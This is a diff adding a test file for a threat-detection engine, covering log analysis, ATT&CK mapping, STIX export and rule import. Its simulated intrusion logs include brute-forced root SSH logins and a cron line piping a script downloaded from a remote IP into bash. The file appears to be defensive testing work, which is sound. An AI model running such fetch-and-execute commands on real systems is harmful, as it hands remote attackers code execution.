@@ -1,0 +1,127 @@
+import { beforeAll, describe, expect, test } from 'vitest';
+import { parseAttackTable, techniquesOf } from '../../../server/engine/threat/attack/table.ts';
+import type { ThreatEngine } from '../../../server/engine/threat/engine.ts';
+import { uuid5 } from '../../../server/engine/threat/stix.ts';
+import { never, openThreatEngine } from '../../support/threat-engine.ts';
+
+let engine: ThreatEngine;
+beforeAll(async () => {
+  engine = await openThreatEngine();
+});
+
+const failures = Array.from(
+  { length: 7 },
+  (_, i) => `Mar  4 09:12:0${i} web01 sshd[1]: Failed password for root from 45.9.148.3 port 4444 ssh2`,
+);
+const intrusion = [
+  ...failures,
+  'Mar  4 09:13:00 web01 sshd[1]: Accepted password for root from 45.9.148.3 port 4444 ssh2',
+  'Mar  4 09:14:00 web01 CRON[9]: (root) CMD (curl -s http://45.9.148.3/i.sh | bash)',
+].join('\n');
+const analyze = (text: string, language?: 'en' | 'ms' | 'zh') =>
+  engine.methods.analyze({ text, ...(language && { language }) }, never);
+
+test('an intrusion: ranked, scored, with actions about what was found', async () => {
+  const analysis = await analyze(intrusion);
+  expect(analysis.severity).toBe('critical');
+  expect(analysis.findings[0]?.ruleId).toBe('anomaly-guessed-login');
+  expect(analysis.findings[0]?.lines.at(-1)?.line).toBe(8);
+  const levels = analysis.findings.map((finding) =>
+    ['informational', 'low', 'medium', 'high', 'critical'].indexOf(finding.level),
+  );
+  expect(levels).toEqual(levels.toSorted((a, b) => b - a));
+  expect(analysis.ttps).toEqual(expect.arrayContaining(['T1110', 'T1078', 'T1105']));
+  const actions = analysis.recommendedActions.join('\n');
+  for (const subject of ['web01', 'root', '45.9.148.3']) expect(actions).toContain(subject);
+  expect(actions).not.toMatch(/\{\w+\}/u);
+});
+
+test('every technique named exists in the version named', async () => {
+  const { ttps, techniques, attackVersion } = await analyze(intrusion);
+  expect(attackVersion).toBe('16.1');
+  expect(techniques.map(({ id }) => id)).toEqual(ttps);
+});
+
+test('nothing found says so', async () => {
+  const analysis = await analyze('the quick brown fox');
+  expect(analysis).toMatchObject({ severity: 'informational', findings: [], ttps: [], language: 'en' });
+  expect(analysis.summary).toContain('No known attack');
+  expect(analysis.recommendedActions).toHaveLength(1);
+});
+
+describe('languages', () => {
+  test.each([
+    [`Sila semak log pelayan ini untuk cubaan serangan\n${intrusion}`, 'ms', 'penemuan'],
+    [`请帮我看一下这些服务器日志有没有异常\n${intrusion}`, 'zh', '项发现'],
+    [intrusion, 'en', 'findings'],
+  ] as const)('%#: %s', async (text, language, word) => {
+    const analysis = await analyze(text);
+    expect(analysis.language).toBe(language);
+    expect(analysis.summary).toContain(word);
+  });
+
+  test('the one asked for wins', async () => {
+    expect((await analyze(intrusion, 'zh')).summary).toContain('置信度');
+  });
+});
+
+test('longer than 32,768 bytes is refused by code', async () => {
+  await expect(analyze('é'.repeat(16_385))).rejects.toMatchObject({ code: 'input_too_long', param: 'input' });
+});
+
+test('STIX is deterministic and refers only to what it holds', async () => {
+  const analysis = await analyze(intrusion);
+  const bundle = await engine.methods.stix({ analysis });
+  expect(await engine.methods.stix({ analysis })).toEqual(bundle);
+  const ids = new Set(bundle.objects.map((object) => object.id));
+  expect(ids.size).toBe(bundle.objects.length);
+  const references = JSON.stringify(bundle.objects).matchAll(
+    /"(?:source_ref|target_ref|created_by_ref)":"([^"]+)"/gu,
+  );
+  for (const [, id] of references) expect(ids.has(id as string)).toBe(true);
+  for (const object of bundle.objects)
+    expect(object.id).toMatch(
+      new RegExp(
+        `^${object.type}--[0-9a-f]{8}-[0-9a-f]{4}-5[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$`,
+        'u',
+      ),
+    );
+});
+
+test('the UUID is the RFC 9562 example construction', () => {
+  expect(uuid5('a')).not.toBe(uuid5('b'));
+  expect(uuid5('a')).toBe(uuid5('a'));
+});
+
+test('rules switch off, import and go again', async () => {
+  const own = await openThreatEngine();
+  const text = 'Mar  4 09:14:00 web01 CRON[9]: (root) CMD (curl -s http://45.9.148.3/i.sh | bash)';
+  const [hit] = (await own.methods.analyze({ text }, never)).findings;
+  await own.methods.setRules({ disable: [hit?.ruleId as string] });
+  expect(
+    (await own.methods.analyze({ text }, never)).findings.map((finding) => finding.ruleId),
+  ).not.toContain(hit?.ruleId);
+  const rule =
+    'title: Mine\nid: mine\nauthor: Aisyah\nlogsource: {product: linux}\ndetection: {s: [i.sh], condition: s}\nlevel: low\ntags: [attack.t1685]';
+  const result = await own.methods.importRules({
+    files: [
+      { name: 'a.yml', text: rule },
+      { name: 'b.yml', text: 'title: x' },
+    ],
+  });
+  expect(result).toMatchObject({ imported: 1, errors: [{ file: 'b.yml' }] });
+  const { findings } = await own.methods.analyze({ text }, never);
+  expect(findings.find((finding) => finding.ruleId === 'mine')).toMatchObject({
+    author: 'Aisyah',
+    ttps: ['T1562.001'],
+  });
+  await own.methods.setRules({ clearImported: true });
+  expect((await own.methods.rules()).some((info) => info.origin === 'imported')).toBe(false);
+});
+
+test('later ids become the ids of this edition; unknown ones are dropped', () => {
+  const table = parseAttackTable('T1562.004\tF\tdefense-evasion\nT1219\tR\tcommand-and-control');
+  expect(
+    techniquesOf(['attack.t1686.003', 'attack.t1219.002', 'attack.t9999', 'attack.stealth'], table),
+  ).toEqual(['T1562.004', 'T1219']);
+});
